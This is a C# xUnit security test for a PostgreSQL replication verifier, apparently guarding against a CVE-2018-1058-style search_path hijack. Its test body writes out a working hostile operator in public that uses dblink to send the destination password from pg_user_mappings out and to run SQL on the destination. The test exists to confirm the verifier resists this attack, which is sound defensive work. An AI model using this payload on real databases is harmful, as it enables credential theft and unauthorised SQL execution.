using System;
using System.ComponentModel.DataAnnotations;
using System.ComponentModel.DataAnnotations.Schema;
using System.Linq;
using System.Threading.Tasks;
using RoslynPgSync.Generated;
using RoslynPgSync.Tests.Infrastructure;
using RoslynPgSync.Verification;
using Xunit;

namespace RoslynPgSync.Tests.Security;

/// <summary>A table keyed by a <c>character varying</c> column: pg_catalog has no <c>=(varchar, varchar)</c>.</summary>
[Table("coded", Schema = "sec")]
[Replicate("sec_coded_dst", TargetSchema = "sec_copy")]
public sealed class SecCoded
{
    [Key] [MaxLength(20)] public string Code { get; set; } = "";
    public string? Body { get; set; }
}

/// <summary>
/// Found in review: the verifier runs its comparison queries (on the source as the installing role, on
/// the destination as the user mapping's role) on the session's own search_path, with unqualified
/// operators on the model's columns (<c>t.k = o.k</c> in the recheck of differing keys). pg_catalog has no
/// <c>=(character varying, character varying)</c> (varchar compares through the cast to text), so an exact
/// <c>public.=(varchar, varchar)</c> wins over pg_catalog's even with pg_catalog searched first
/// (CVE-2018-1058's pattern). Any role that may CREATE in public (every role in a database that came from
/// PostgreSQL 14 or older by dump or pg_upgrade, or when granted) runs its code as the installing role:
/// it reads the destination password from pg_user_mappings, and could write the queue.
/// </summary>
public sealed class VerifierSearchPathTests
{
    private const string Server = "sec_coded_dst";

    private static string PgSqlLiteral(string value) => "'" + value.Replace("'", "''", StringComparison.Ordinal) + "'";

    [Fact]
    public async Task A_role_that_may_create_in_public_does_not_run_its_operator_as_the_verifier()
    {
        await using var pair = await TestBed.Create().Pair(Server).InstallAsync(PgSyncInstaller.Tables);
        var table = PgSyncInstaller.Tables.Single(t => t.EntityType == typeof(SecCoded));
        await Db.ExecuteAsync(pair.Local.ConnectionString, "INSERT INTO sec.coded (code, body) SELECT 'k' || g, 'v' FROM generate_series(1, 20) AS g");
        await pair.ReplayAsync();
        // One difference, so that the verifier reads the differing key again (the keyed query).
        await Db.ExecuteAsync(pair.Remote.ConnectionString, "UPDATE sec_copy.coded SET body = 'tampered' WHERE code = 'k3'");

        await using var hostile = await pair.Cluster.CreateRoleAsync("hostile");
        // public as it is in a database restored or upgraded from PostgreSQL 14 or older (or granted).
        await Db.ExecuteAsync(pair.Local.AdminConnectionString, "GRANT CREATE ON SCHEMA public TO PUBLIC");
        // The verifier rolls its snapshots back, so the operator sends what it takes out through the
        // installing role's dblink: to its own login (the stolen password) and to the destination (any SQL).
        var loopback = $"host={pair.Local.Host} port={pair.Local.Port} dbname={pair.Local.Name} user={hostile.Name} password={hostile.Password}";
        await Db.ExecuteAsync(hostile.ConnectionStringFor(pair.Local.Name), $$"""
            CREATE TABLE public.loot (who text, what text);
            CREATE FUNCTION public.steal(a character varying, b character varying) RETURNS boolean LANGUAGE plpgsql AS $f$
            BEGIN
                IF pg_catalog.has_function_privilege('dblink.dblink_exec(text, text)', 'EXECUTE') THEN
                    PERFORM dblink.dblink_exec({{PgSqlLiteral(loopback)}}, pg_catalog.format('INSERT INTO public.loot VALUES (%L, %L)', current_user,
                        (SELECT pg_catalog.array_to_string(m.umoptions, ',') FROM pg_catalog.pg_user_mappings AS m WHERE m.srvname = '{{Server}}')));
                    PERFORM dblink.dblink_exec('{{Server}}', 'CREATE TABLE IF NOT EXISTS public.pwned (x int)');
                END IF;
                RETURN a::text OPERATOR(pg_catalog.=) b::text;
            END $f$;
            CREATE OPERATOR public.= (LEFTARG = character varying, RIGHTARG = character varying, FUNCTION = public.steal);
            """);

        var result = Assert.Single(await new PgSyncVerifier(pair.LocalSource, pair.Options).VerifyAsync([table]));
        Assert.Equal(["(k3)"], result.Changed.ToArray());

        var stolen = await Db.ScalarAsync<string?>(pair.Local.AdminConnectionString, "SELECT string_agg(DISTINCT who || ': ' || coalesce(what, '(null)'), '; ') FROM public.loot");
        Assert.True(stolen is null, "the hostile operator ran as the installing role, and took the destination password: " + stolen);
        Assert.False(
            await Db.ScalarAsync<bool>(pair.Remote.ConnectionString, "SELECT to_regclass('public.pwned') IS NOT NULL"),
            "the hostile operator ran SQL on the destination through the installing role's foreign server");
    }
}
